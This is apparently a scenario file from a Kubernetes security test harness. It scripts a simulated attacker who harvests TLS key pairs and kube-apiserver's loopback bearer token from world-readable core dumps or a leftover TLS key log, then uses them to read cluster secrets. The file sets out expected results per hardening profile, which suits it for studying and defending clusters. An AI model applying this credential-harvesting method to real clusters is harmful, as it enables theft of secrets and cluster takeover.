/**
 * kubelet of worker-2  ===TLS 1.3===>  kube-apiserver, started with SSLKEYLOGFILE
 *                         |
 *                        tap
 *
 * gcore of worker-2's kubelet  -->  /var/crash/core.kubelet  --open(2)-->  uid 64002  -->  kube-apiserver
 * gcore of kube-apiserver      -->  /var/crash/core.kube-apiserver  --open(2)-->  uid 64002  -->  kube-apiserver
 *
 * A debugger's port is not shown: whoever can open one on a component of ours holds Node, which no component of a real cluster is, and Go has
 * nothing of that kind in itself: the profiles of its pprof hold counts and names, not what is in memory.
 */
import { keyPairsIn, randomUuidsIn } from '../../lib/attacker/memory-image.ts'
import { secretPath } from '../../lib/attacker/reach-goal.ts'
import type { Loot, World } from '../../lib/attacker/world.ts'
import { tapOn, tapWithKeys } from '../../lib/scenario/footholds.ts'
import { scenario } from '../../lib/scenario/scenario.ts'

const LINK = { from: 'worker-2', to: 'control-plane-1' }
const CONTROL_PLANE = 'control-plane-1'
const NEIGHBOUR_UID = 64002
const [EVERYBODYS, OWNERS] = ['a core file of mode 0644', 'a core file of mode 0600']
const ANYBODY = { notApplicable: 'everybody may do everything there: no token is needed' }
const NO_KEY = { notApplicable: 'no kubelet has a client key there, and nobody needs one' }

export default scenario({
  title: 'Ask the process for its keys',
  story: `Somebody turned on a key log to debug a handshake and forgot it: forward secrecy keeps no secret that the process writes down itself.
Or he wrote a process's memory to a file, as any crash does where nobody has forbidden it: the key is in it, whatever the mode of the
key's own file. kube-apiserver's holds more than files do: the token by which it is system:masters to itself, which it takes from anybody.
The memory is the component's real one; ours hold their keys in PEM, a Go program as numbers, which takes a better search.`,
  refs: [
    'kubernetes/kubernetes#119628 (loopback token)',
    'RFC 9850 (SSLKEYLOGFILE)',
    'crypto/tls Config.KeyLogWriter',
    'core(5), gcore(1), systemd-coredump(8)',
  ],
  attack: ['T1003', 'T1040', 'T1552.001'],
  variants: [
    {
      id: 'a',
      title: `a kubelet's core file on its worker`,
      foothold: {
        name: 'neighbour',
        stands: { on: 'machine', host: 'worker-2', uid: NEIGHBOUR_UID },
        holds: {},
      },
      goal: { read: 'secret', node: 'worker-2' },
      target: EVERYBODYS,
      expect: {
        open: NO_KEY,
        encrypted: NO_KEY,
        kubeadm: { kind: 'through' },
        hardened: { kind: 'through' },
        'zero-trust': { kind: 'through' },
      },
      twin: { through: { target: OWNERS } },
    },
    {
      id: 'c',
      title: 'a key log beside the recording',
      foothold: tapWithKeys(LINK),
      goal: { read: 'secret', node: 'worker-2' },
      expect: {
        open: { notApplicable: 'there is nothing to decrypt: the link is plain HTTP (tap-link)' },
        encrypted: { kind: 'through' },
        kubeadm: { kind: 'through' },
        hardened: { kind: 'through' },
        'zero-trust': { kind: 'through' },
      },
      twin: { through: { foothold: tapOn(LINK) } },
    },
    {
      id: 'd',
      title: `kube-apiserver's core file: its token for itself, used from outside`,
      foothold: {
        name: 'neighbour',
        stands: { on: 'machine', host: CONTROL_PLANE, uid: NEIGHBOUR_UID },
        holds: {},
      },
      goal: { read: 'secret' },
      target: EVERYBODYS,
      expect: {
        open: ANYBODY,
        encrypted: ANYBODY,
        kubeadm: { kind: 'through' },
        hardened: { kind: 'through' },
        'zero-trust': { kind: 'through' },
      },
      twin: { through: { target: OWNERS } },
    },
  ],
  async prepare(operator, { variant, target, node }) {
    const mode = target === EVERYBODYS ? 0o644 : 0o600
    if (variant === 'a') await operator.dumpCore(node, 'kubelet', mode)
    if (variant === 'd') await operator.dumpCore(CONTROL_PLANE, 'kube-apiserver', mode)
  },
  async attempt(world, variant) {
    if (variant === 'a') return secretByKeyInMemory(world)
    if (variant === 'd') return secretByTokenInMemory(world)
    return world.capture()
  },
})

async function secretByKeyInMemory(world: World): Promise<Loot> {
  const core = await world.readAsUser('/var/crash/core.kubelet')
  const loot: string[] = []
  for (const withKeyPair of core === undefined ? [] : keyPairsIn(core)) {
    loot.push((await world.api({ path: secretPath(world.goal), withKeyPair })).body)
  }
  return loot
}

/** The token is one UUID among those of all objects: each is tried, and nobody counts. */
async function secretByTokenInMemory(world: World): Promise<Loot> {
  const core = await world.readAsUser('/var/crash/core.kube-apiserver')
  for (const bearer of core === undefined ? [] : randomUuidsIn(core)) {
    const { status, body } = await world.api({ path: secretPath(world.goal), bearer })
    if (status === 200) return [body]
  }
  return []
}
